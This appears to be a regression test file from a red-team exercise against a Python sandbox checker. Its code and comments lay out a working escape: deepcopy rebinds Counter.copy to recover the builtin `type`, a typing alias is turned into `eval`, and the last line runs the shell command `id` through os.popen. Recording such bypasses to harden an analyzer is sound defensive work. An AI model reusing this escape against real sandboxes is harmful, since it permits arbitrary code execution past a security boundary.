# expect: reject dunder
# line: 34
# why: the red team's round 27d ok_04: deepcopy rebuilt Counter.copy, bound to a program subclass's instance, on the class its __deepcopy__ answered (Counter.copy(P) again, handing back type)
# ok_04 -- goal 2 (the builtin `type` as a value, then typing._GenericAlias and the
#          real eval) and goal 1 (runs `id`).  SAME DOOR AS ok_02 (copy.deepcopy
#          re-binding a library method to what a __deepcopy__ answered), kept
#          because it reopens a different closed family: the eleventh red team's
#          `collections.Counter.copy(P)` with P a class.
#
# Mechanism: Tally is a program subclass of collections.Counter whose __deepcopy__
#   answers the program class Plain.  copy.deepcopy([t, t.copy]) rebuilds the
#   bound Counter.copy on Plain; calling it runs `self.__class__(self)` with
#   self = Plain, i.e. type(Plain) -> the builtin `type`, held in a plain name.
#   maker(typing.List[int]) is typing._GenericAlias; _GenericAlias(dict, ("eval",),
#   name="__builtins__") deep-copied is operator.getitem(builtins, "eval").
#
# Why the checker missed it: rule `unbound` (analyzer/names.c, check_unbound_read)
#   closes Counter.copy(P) only when the method is read THROUGH a library class;
#   `t.copy` is a bound read on a program instance, and the round-27b deepcopy
#   check (check_rebound_method) only looks at program_method_name() -- `copy`
#   here is the library's.  `maker` is then an ordinary name: calling it is not
#   judged as a call of `type` (rule `builtin`) nor as a class by value
#   (`class_value` only knows type(x), x.__class__, get_origin/get_args, ...).
import collections
import copy
import typing


class Plain:
    pass


class Tally(collections.Counter):
    def __deepcopy__(self, memo):
        return Plain


t = Tally()
dup = copy.deepcopy([t, t.copy])[1]
maker = dup()
print("Counter.copy with self = a class handed back:", maker)
alias = maker(typing.List[int])(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print(ev)
ev("print(__import__('os').popen('id').read())")
